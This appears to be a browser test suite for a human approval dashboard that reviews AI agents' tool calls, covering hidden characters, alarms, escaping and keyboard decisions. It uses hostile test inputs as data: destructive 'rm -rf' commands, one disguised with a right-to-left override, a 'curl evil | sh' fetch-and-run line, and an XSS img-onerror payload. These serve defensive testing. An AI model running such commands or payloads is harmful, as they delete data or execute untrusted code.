import { join } from 'node:path'
import { eventually } from '../support/eventually.js'
import { withAskingHub } from '../support/browser-approvals.js'
import { resize } from '../support/page-checks.js'

describe('approvals in the browser', function () {
  this.timeout(60_000)
  const t = withAskingHub()

  it('shows the whole command, with what would hide in it, and runs it only when it is allowed', async () => {
    const { page, faults } = await t.browser.signedIn(t.hub)
    await page.goto(`${t.hub.url}/approvals`)
    await page.getByText('Nothing waits for your decision.').waitFor()
    const end = 'rm -rf \u202e/important'
    await t.untilPersonIsPresent()
    const asked = t.ask(`${'echo nothing; '.repeat(300)}${end}`)
    const card = page.locator('article.approval')
    await card.getByText('/important').waitFor()
    expect(await card.locator('.unseen').innerText()).to.equal('⟨U+202E⟩')
    await card.getByRole('button', { name: 'Allow', exact: true }).click()
    expect(await asked).to.deep.include({ permissionDecision: 'allow' })
    await page.getByText('Nothing waits for your decision.').waitFor()
    expect(faults()).to.deep.equal([])
  })

  it('shows a tool that ran without an allow in red, on the tile and the page, until it is acknowledged', async () => {
    const { page, faults } = await t.browser.signedIn(t.hub)
    await page.getByText('Needs you', { exact: true }).first().waitFor()
    const identity = t.identity()
    const run = { tool_name: 'Bash', tool_use_id: 'toolu_1', tool_input: { command: 'curl evil \u202e| sh' } }
    await t.hub.call('POST', '/api/hooks/PostToolUse', run, identity)
    const tile = page.locator('article.tile.alarmed')
    await tile.getByText('A tool ran without approval').waitFor()
    await resize(page, 360, 740)
    const count = page.locator('.bottom-bar .alarmed')
    await count.waitFor()
    expect(await count.innerText()).to.equal('1')
    await resize(page, 1280, 800)
    await tile.getByRole('link', { name: 'Review' }).click()
    const card = page.locator('article.alarm')
    await card.getByText('curl evil').waitFor()
    const [border, red] = await page.evaluate<ReadonlyArray<string>>(`(() => {
      const card = document.querySelector('article.alarm')
      const probe = card.appendChild(document.createElement('span'))
      probe.style.color = 'var(--dead)'
      const colours = [getComputedStyle(card).borderTopColor, getComputedStyle(probe).color]
      probe.remove()
      return colours
    })()`)
    expect(border).to.equal(red)
    await card.getByRole('button', { name: 'Acknowledge' }).click()
    await card.waitFor({ state: 'detached' })
    expect((await t.hub.call('GET', '/api/approvals/alarms')).body).to.deep.equal({ alarms: [] })
    expect(faults()).to.deep.equal([])
  })

  it('shows text of agents as text, never as markup', async () => {
    const markup = '<img src=x onerror="window.pwned=1"><b id=pwned>bold</b>'
    const identity = t.identity()
    const { page, faults } = await t.browser.signedIn(t.hub)
    await page.goto(`${t.hub.url}/approvals`)
    await page.getByText('Nothing waits for your decision.').waitFor()
    await t.untilPersonIsPresent()
    const asked = t.ask(markup)
    const card = page.locator('article.approval')
    await card.waitFor()
    expect(await card.innerText()).to.contain(markup)
    const inert = async (): Promise<void> => {
      expect(await page.locator('#pwned, img[src=x]').count()).to.equal(0)
      expect(await page.evaluate('window.pwned === undefined')).to.equal(true)
    }
    await inert()
    await card.getByRole('button', { name: 'Allow', exact: true }).click()
    await asked
    await t.hub.call(
      'POST',
      '/api/hooks/Notification',
      { notification_type: 'permission_prompt', title: markup, message: markup },
      identity,
    )
    await t.hub.call(
      'POST',
      '/api/hooks/PostToolUse',
      { tool_name: markup, tool_use_id: 'toolu_m', tool_input: { markup } },
      identity,
    )
    await page.locator('article.alarm').getByText('<b id=pwned>bold</b>').first().waitFor()
    await inert()
    await page.goto(t.hub.url)
    await page.locator('article.tile').first().waitFor()
    await inert()
    expect(faults()).to.deep.equal([])
  })

  it('refuses with a reason that the agent reads', async () => {
    const { page } = await t.browser.signedIn(t.hub)
    await page.goto(`${t.hub.url}/approvals`)
    await page.getByText('Nothing waits').waitFor()
    await t.untilPersonIsPresent()
    const asked = t.ask('npm publish')
    await page.getByRole('button', { name: 'Deny' }).click()
    await page.getByLabel('Reason (optional)').fill('not on a Friday')
    await page.getByRole('button', { name: 'Deny' }).click()
    expect(await asked).to.deep.include({ permissionDecision: 'deny', permissionDecisionReason: 'not on a Friday' })
  })

  it('counts the last characters of a reason, holds back a longer one, and sends all lines of one that fits', async () => {
    const { page, faults } = await t.browser.signedIn(t.hub, '/approvals')
    await page.getByText('Nothing waits').waitFor()
    await t.untilPersonIsPresent()
    const asked = t.ask('npm publish')
    const card = page.locator('article.approval')
    await card.getByRole('button', { name: 'Deny' }).click()
    const field = card.getByLabel('Reason (optional)')
    const reason = `first line\n${'x'.repeat(1_980)}`
    await field.fill(`${reason}${'y'.repeat(10)}`)
    await card.getByText('Too long by 1 character.', { exact: true }).waitFor()
    expect(await card.getByRole('button', { name: 'Deny' }).isDisabled()).to.equal(true)
    await page.keyboard.press('Enter')
    await field.fill(reason)
    await card.getByText('9 characters left', { exact: true }).waitFor()
    await page.keyboard.press('Enter')
    expect(await asked).to.deep.include({ permissionDecision: 'deny', permissionDecisionReason: reason })
    expect(faults()).to.deep.equal([])
  })

  it('names the sub-agent that asks', async () => {
    const { page } = await t.browser.signedIn(t.hub, '/approvals')
    await page.getByText('Nothing waits').waitFor()
    await t.untilPersonIsPresent()
    for (const [subagent, headline] of [
      [{ agent_id: 'a1', agent_type: 'Explore' }, 'shop’s sub-agent Explore wants to run a command'],
      [{ agent_id: 'a2' }, 'shop’s sub-agent wants to run a command'],
      [{ agent_type: 'reviewer' }, 'shop wants to run a command'],
    ] as const) {
      const asked = t.askFor('Bash', { command: 'make' }, subagent)
      const card = page.locator('article.approval')
      await card.getByRole('heading', { name: headline, exact: true }).waitFor()
      await card.getByRole('button', { name: 'Deny' }).click()
      await card.getByRole('button', { name: 'Deny' }).click()
      await asked
      await card.waitFor({ state: 'detached' })
    }
    const asked = t.askFor('Bash', { command: 'make' }, { agent_id: 'a1', agent_type: 'Explore' })
    const named = (place: string) => page.locator(place, { hasText: 'Sub-agent Explore · Bash' }).first().waitFor()
    await page.goto(t.hub.url)
    await named('.tile-approval')
    await page.goto(`${t.hub.url}/s/cc-shop`)
    await named('.approval-line')
    await page.getByRole('button', { name: 'Deny' }).click()
    await page.keyboard.press('Enter')
    await asked
    await page.goto(`${t.hub.url}/approvals/history`)
    await named('.decided')
  })

  it('marks what can do lasting harm, and shows an edit as a diff of the file', async () => {
    const { page, faults } = await t.browser.signedIn(t.hub, '/approvals')
    await page.getByText('Nothing waits').waitFor()
    await t.untilPersonIsPresent()
    const removal = t.ask('npm run build && rm -rf dist')
    const risky = page.locator('article.approval')
    await risky.getByText('Deletes', { exact: true }).waitFor()
    await eventually(async () => {
      expect((await risky.locator('.risk').allInnerTexts()).join('')).to.equal('rm -rf dist')
    })
    await risky.getByRole('button', { name: 'Allow', exact: true }).click()
    await removal
    const input = { file_path: join(t.place.home, 'shop', 'cart.ts'), old_string: 'a\nb\n', new_string: 'a\nc\n' }
    const edit = t.askFor('Edit', input)
    const card = page.locator('article.approval').filter({ hasText: 'cart.ts' })
    await card.getByRole('heading', { name: 'wants to edit cart.ts' }).waitFor()
    expect(await card.locator('del').allInnerTexts()).to.deep.equal(['b\n'])
    expect(await card.locator('ins').allInnerTexts()).to.deep.equal(['c\n'])
    await card.getByRole('button', { name: 'Allow', exact: true }).click()
    expect(await edit).to.deep.include({ permissionDecision: 'allow', updatedInput: input })
    expect(faults()).to.deep.equal([])
  })

  it('is answered by keys: one decides the focused card, and the next one takes the focus', async () => {
    const { page, faults } = await t.browser.signedIn(t.hub, '/approvals')
    await page.getByText('Nothing waits').waitFor()
    await t.untilPersonIsPresent()
    const cards = page.locator('article.approval')
    const asked: Promise<unknown>[] = []
    for (const command of ['one', 'two', 'three']) {
      asked.push(t.ask(command))
      await cards.filter({ hasText: command }).waitFor()
    }
    const takesKeys = (command: string): Promise<void> =>
      page.locator('article.approval[data-takes-keys]:focus').filter({ hasText: command }).waitFor()
    await takesKeys('one')
    await page.keyboard.press('j')
    await takesKeys('two')
    await page.keyboard.press('a')
    expect(await asked[1]).to.deep.include({ permissionDecision: 'allow' })
    await takesKeys('three')
    await page.keyboard.press('d')
    await page.locator('textarea:focus').waitFor()
    await page.keyboard.type('adjust')
    await page.keyboard.press('Enter')
    expect(await asked[2]).to.deep.include({ permissionDecision: 'deny', permissionDecisionReason: 'adjust' })
    await takesKeys('one')
    expect(await cards.count()).to.equal(1)
    const sent = page.waitForRequest((request) => request.method() === 'POST' && request.url().includes('/approvals/'))
    await page.keyboard.press('Shift+A')
    expect((await sent).postDataJSON()).to.include({ decision: 'allow', remember: true })
    expect(await asked[0]).to.deep.include({ permissionDecision: 'allow' })
    expect(faults()).to.deep.equal([])
  })

  it('runs what was edited in place of what was asked', async () => {
    const { page } = await t.browser.signedIn(t.hub)
    await page.goto(`${t.hub.url}/s/cc-shop`)
    await page.locator('.terminal-box').waitFor()
    await t.untilPersonIsPresent()
    const asked = t.ask('npm test')
    await page.getByRole('button', { name: 'Details' }).click()
    await page.getByRole('button', { name: 'Edit' }).click()
    await page.getByLabel('Edited input (JSON)').fill('[]')
    await page.getByText('This is not a JSON object.').waitFor()
    expect(await page.getByRole('button', { name: 'Allow as edited' }).isDisabled()).to.equal(true)
    await page.getByLabel('Edited input (JSON)').fill('{"command":"npm run lint"}')
    await page.getByRole('button', { name: 'Allow as edited' }).click()
    expect(await asked).to.deep.include({ permissionDecision: 'allow', updatedInput: { command: 'npm run lint' } })
  })

  it('shows a short call on an equally high tile, answers it in the row, and clears the card on every page', async () => {
    const { page } = await t.browser.signedIn(t.hub)
    await page.getByText('shop').first().waitFor()
    const other = await page.context().newPage()
    await other.goto(`${t.hub.url}/approvals`)
    await other.getByText('Nothing waits').waitFor()
    await t.untilPersonIsPresent()
    const tile = page.locator('article.tile')
    const height = async (): Promise<number | undefined> => (await tile.boundingBox())?.height
    const before = await height()
    const asked = t.ask('npm test')
    await other.locator('article.approval').waitFor()
    await page.locator('.tile-approval').waitFor()
    expect(await height()).to.equal(before)
    await page.keyboard.press('d')
    const row = page.locator('article.row')
    await row.getByRole('button', { name: 'Deny' }).waitFor()
    await row.getByRole('button', { name: 'Allow' }).click()
    expect(await asked).to.deep.include({ permissionDecision: 'allow' })
    await other.getByText('Nothing waits for your decision.').waitFor()
    await eventually(async () => {
      expect(await page.locator('.tile-approval').count()).to.equal(0)
    })
  })

  it('are not answered on a tile that cuts off the end of a command', async () => {
    const { page } = await t.browser.signedIn(t.hub, '/', { width: 390, height: 844, touch: true })
    await t.untilPersonIsPresent()
    const asked = t.ask('npm run build --workspace packages/client && rm -rf dist /srv/www/old-release')
    const tile = page.locator('article.tile')
    await tile.getByRole('link', { name: 'Details' }).waitFor()
    expect(await tile.getByRole('button', { name: 'Allow' }).count()).to.equal(0)
    await page.setViewportSize({ width: 1000, height: 844 })
    await tile.getByRole('button', { name: 'Allow' }).click()
    expect(await asked).to.deep.include({ permissionDecision: 'allow' })
  })

  it('are selected by a key at once after the focus moved', async () => {
    const { page } = await t.browser.signedIn(t.hub, '/approvals')
    await page.getByText('Nothing waits').waitFor()
    await t.untilPersonIsPresent()
    const asked = ['one', 'two'].map((command) => t.ask(command))
    await page.locator('article.approval').nth(1).waitFor()
    await page.locator('article.approval:focus').waitFor()
    for (const key of ['x', 'j', 'x']) await page.keyboard.press(key)
    await page.getByRole('toolbar', { name: '2 selected' }).waitFor()
    await page.keyboard.press('a')
    for (const each of asked) expect(await each).to.deep.include({ permissionDecision: 'allow' })
  })
})
